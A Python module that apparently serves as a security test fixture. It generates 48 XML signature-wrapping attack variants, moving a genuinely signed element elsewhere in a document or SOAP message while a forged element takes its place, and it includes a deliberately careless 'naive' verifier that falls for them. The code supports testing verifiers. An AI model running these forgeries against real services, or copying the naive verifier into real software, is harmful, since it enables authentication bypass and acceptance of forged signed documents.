"""Signature wrapping: a genuine signed thing is moved somewhere, an evil one is put where it stood.

`PLACES` are eight ways of it, `SPELLINGS` the id attribute, `KINDS` how the signature names what it signs: `whole` (an
empty URI, the signature within) or `id`. `naive` is a verifier as they are found: it verifies whatever the signature
names, wherever that is, and then reads the document from its top.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterable
from copy import deepcopy
from dataclasses import dataclass
from typing import Any

from cryptography import x509
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from lxml import etree
from signxml.algorithms import CanonicalizationMethod, SignatureConstructionMethod, SignatureMethod
from signxml.signer import XMLSigner

from emoit.exchange import keys
from emoit.exchange.envelopes.xml_form import DSIG, NAMESPACE
from emoit.lib.xml import parse_xml

PLACES = range(1, 9)
SPELLINGS = ("Id", "ID", "id")
KINDS = ("whole", "id")
NS, DS = f"{{{NAMESPACE}}}", f"{{{DSIG}}}"
SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
S = f"{{{SOAP}}}"


@dataclass(frozen=True)
class Pair:
    """What was really signed, its signature apart from it, and what the attacker wants to be read."""

    genuine: etree._Element
    signature: etree._Element
    evil: etree._Element
    kind: str

    def moved(self) -> etree._Element:
        """The genuine one as it is hidden: with its signature where that has to be within."""
        found = deepcopy(self.genuine)
        if self.kind == "whole":
            found.append(deepcopy(self.signature))
        return found

    def faked(self) -> etree._Element:
        """The evil one as it is shown; the signature stands in it as it should, where it may."""
        found = deepcopy(self.evil)
        if self.kind == "id":
            found.append(deepcopy(self.signature))
        return found


def pair(unsigned: etree._Element, evil: dict[str, str], key: keys.OwnKey, spelling: str, kind: str) -> Pair:
    """The document signed with an id in this spelling. `evil`: texts of its header that the other one changes."""
    root = deepcopy(unsigned)
    root.set(spelling, "signed")
    is_ec = isinstance(key.private, ec.EllipticCurvePrivateKey)
    signer = XMLSigner(
        method=SignatureConstructionMethod.enveloped,
        signature_algorithm=SignatureMethod.ECDSA_SHA256 if is_ec else SignatureMethod.RSA_SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    uri = "#signed" if kind == "id" else None
    signed = parse_xml(etree.tostring(signer.sign(root, key=key.private, cert=[key.certificate], reference_uri=uri)))
    signature = signed[-1]
    signed.remove(signature)
    other = deepcopy(signed)
    other.set(spelling, "evil")
    for name, value in evil.items():
        found = other.find(f"{NS}Header/{NS}{name}")
        assert found is not None
        found.text = value
    return Pair(signed, signature, other, kind)


def wrapped(one: Pair, place: int) -> bytes:
    """The evil document with the genuine one in it: eight places."""
    evil, hidden = one.faked(), one.moved()
    header = evil.find(f"{NS}Header")
    assert header is not None
    extension = etree.Element(f"{NS}Extension")
    if place == 1:
        evil.insert(0, hidden)
        evil.insert(0, header)  # what is read first stays the evil one
    elif place == 2:
        evil.append(hidden)
    elif place == 3:
        header.append(hidden)
    elif place == 4:
        evil.insert(1, hidden)
    elif place == 5:
        extension.append(hidden)
        evil.append(extension)
    elif place == 6:
        extension.append(hidden)
        evil.insert(1, extension)
    elif place == 7:
        evil[1].append(hidden) if len(evil) > 1 and evil[1].tag == f"{NS}Body" else header.append(hidden)
    else:
        shell = etree.SubElement(evil, f"{DS}Object")
        shell.append(hidden)
    return bytes(etree.tostring(evil))


def in_soap(one: Pair, place: int) -> bytes:
    """The evil document in a SOAP Body, the genuine one elsewhere in the SOAP message: eight places."""
    root = etree.Element(f"{S}Envelope", nsmap={"s": SOAP})
    header, body = etree.SubElement(root, f"{S}Header"), etree.SubElement(root, f"{S}Body")
    evil, hidden = one.faked(), one.moved()
    body.append(evil)
    if place == 1:
        header.append(hidden)
    elif place == 2:
        etree.SubElement(header, "{urn:x}Wrapper").append(hidden)
    elif place == 3:
        body.append(hidden)
    elif place == 4:
        etree.SubElement(body, "{urn:x}Wrapper").append(hidden)
    elif place == 5:
        root.append(hidden)
    elif place == 6:
        etree.SubElement(root, "{urn:x}Wrapper").append(hidden)
    elif place == 7:
        etree.SubElement(header, f"{DS}Object").append(hidden)
    else:
        etree.SubElement(evil, f"{NS}Extension").append(hidden)
    return bytes(etree.tostring(root))


def attacks(
    unsigned: etree._Element, evil: dict[str, str], key: keys.OwnKey, *, soap: bool = False
) -> Iterable[tuple[str, bytes]]:
    """(name, bytes) of all 48."""
    for kind in KINDS:
        for spelling in SPELLINGS:
            one = pair(unsigned, evil, key, spelling, kind)
            for place in PLACES:
                yield f"{kind} {spelling} {place}", in_soap(one, place) if soap else wrapped(one, place)


def naive(content: bytes, certificate: x509.Certificate, root_tag: str) -> dict[str, str] | None:
    """What a careless verifier reads of the first element of that name, if the signature holds for what it names."""
    root = parse_xml(content)
    signature = next(root.iter(f"{DS}Signature"))
    info = signature.find(f"{DS}SignedInfo")
    assert info is not None
    reference = info.find(f"{DS}Reference")
    assert reference is not None
    uri = reference.get("URI") or ""
    target: Any = signature.getparent() if not uri else _by_id(root, uri[1:])
    plain = deepcopy(target)
    for found in plain.findall(f"{DS}Signature"):
        plain.remove(found)
    digest = base64.b64encode(hashlib.sha256(_canonical(plain)).digest()).decode()
    if digest != (reference.findtext(f"{DS}DigestValue") or "").strip():
        return None
    value = base64.b64decode("".join((signature.findtext(f"{DS}SignatureValue") or "").split()))
    if not _holds(certificate, value, _canonical(info)):
        return None
    body = root.find(f"{S}Body")
    first = next((root if body is None else body).iter(root_tag))
    header = first.find(f"{NS}Header")
    assert header is not None
    return {etree.QName(child).localname: child.text or "" for child in header if child.tag != root_tag}


def _by_id(root: etree._Element, name: str) -> etree._Element:
    return next(
        node
        for node in root.iter()
        if any(etree.QName(key).localname.lower() == "id" and value == name for key, value in node.attrib.items())
    )


def _canonical(node: etree._Element) -> bytes:
    return bytes(etree.tostring(node, method="c14n", exclusive=True, with_comments=False, with_tail=False))


def _holds(certificate: x509.Certificate, value: bytes, data: bytes) -> bool:
    public = certificate.public_key()
    try:
        if isinstance(public, ec.EllipticCurvePublicKey):
            half = len(value) // 2
            pair_of = (int.from_bytes(value[:half], "big"), int.from_bytes(value[half:], "big"))
            public.verify(encode_dss_signature(*pair_of), data, ec.ECDSA(hashes.SHA256()))
        else:
            public.verify(value, data, padding.PKCS1v15(), hashes.SHA256())  # type: ignore[union-attr,call-arg]
    except InvalidSignature:
        return False
    return True
